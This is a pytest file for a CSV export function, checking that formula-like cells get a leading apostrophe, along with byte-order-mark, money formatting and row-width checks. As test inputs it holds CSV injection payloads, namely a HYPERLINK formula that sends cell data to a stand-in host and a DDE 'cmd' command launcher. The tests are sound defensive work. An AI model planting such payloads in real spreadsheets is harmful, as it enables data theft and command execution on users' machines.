"""The one CSV writer: formula-like text neutralised, UTF-8 with a BOM, money as decimals, and
every other cell read back as it went in."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.shared.csv_export import BYTE_ORDER_MARK, FORMULA_STARTS, Amount, Cell, csv_document


def read_back(document: str) -> list[list[str]]:
    assert document.startswith(BYTE_ORDER_MARK)
    raw = document.encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf")  # what a spreadsheet sees first: the UTF-8 byte order mark
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Zhang Wei", "Zhang Wei"),
        ("张伟", "张伟"),
        ("O'Brien, Mary", "O'Brien, Mary"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str, shown: str) -> None:
    ((cell,),) = read_back(csv_document(["name"], [[text]]))[1:]
    assert cell == shown


def test_numbers_dates_and_money_are_written_as_values_and_keep_their_sign() -> None:
    moment = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
    amounts = [Amount(-5, "CNY"), Amount(123456, "JPY"), Amount(1234, "KWD")]
    row: list[Cell] = [-5, date(2026, 3, 2), moment, *amounts, None]
    header, values = read_back(csv_document(["n", "day", "at", "cny", "jpy", "kwd", "empty"], [row]))
    assert header == ["n", "day", "at", "cny", "jpy", "kwd", "empty"]
    assert values == ["-5", "2026-03-02", "2026-03-02T01:00:00+00:00", "-0.05", "123456", "1.234", ""]


def test_an_empty_export_is_the_header_alone_and_rows_end_as_rfc_4180_says() -> None:
    assert csv_document(["a", "b"], []) == BYTE_ORDER_MARK + "a,b\r\n"
    assert csv_document(["a"], [["x"], ["y"]]).endswith("x\r\ny\r\n")


def test_a_row_of_the_wrong_width_or_a_cell_of_an_unknown_type_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="2 cells under a header of 1"):
        csv_document(["a"], [["x", "y"]])
    with pytest.raises(TypeError):
        csv_document(["a"], [[1.5]])  # type: ignore[list-item]
    with pytest.raises(TypeError):
        csv_document(["a"], [[True]])


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_reads_back_as_itself_or_quoted_never_as_a_formula(texts: list[str]) -> None:
    header = [f"c{i}" for i in range(len(texts))]
    (_, cells) = read_back(csv_document(header, [texts]))
    for text, cell in zip(texts, cells, strict=True):
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)
